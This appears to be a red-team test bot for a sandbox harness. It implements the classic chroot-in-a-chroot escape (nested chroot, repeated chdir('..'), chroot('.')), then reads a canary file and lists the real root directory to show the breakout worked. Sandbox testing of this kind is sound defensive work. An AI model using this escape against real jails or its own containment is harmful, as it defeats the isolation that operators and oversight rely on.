// Red-team bot (bots/attacks/README.md): the chroot-in-a-chroot escape.
#include <sys/stat.h>

#include "attack.h"

int main() {
  rk::Request r = rk::read_request();
  mkdir("/tmp/jail", 0755);
  if (chroot("/tmp/jail") != 0) rk::failed("chroot: " + rk::errno_text());
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) rk::failed("second chroot: " + rk::errno_text());
  std::string text;
  if (rk::read_file("/var/tmp/rulekit-redteam/canary", text)) rk::escaped(r, "read the canary after chroot: " + text);
  std::string names;
  if (DIR* root = opendir("/")) {
    while (dirent* e = readdir(root)) names += std::string(e->d_name) + " ";
    closedir(root);
  }
  rk::escaped(r, "chroot twice worked; / holds: " + names);
}
